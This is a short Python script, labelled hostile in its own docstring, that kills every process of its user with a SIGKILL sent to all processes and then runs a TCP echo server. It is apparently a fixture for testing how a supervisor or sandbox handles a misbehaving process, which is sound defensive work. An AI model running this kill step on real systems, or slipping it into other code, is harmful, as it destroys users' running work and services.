"""Hostile: kills every process of its user it can reach (kill -9 -1), then serves."""
import os
import signal
import socket
import sys

def serve(port):
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", port))
    server.listen(5)
    while True:
        conn, _ = server.accept()
        while True:
            data = conn.recv(4096)
            if not data:
                break
            conn.sendall(data)
        conn.close()


os.kill(-1, signal.SIGKILL)  # spares the caller
serve(int(sys.argv[1]))
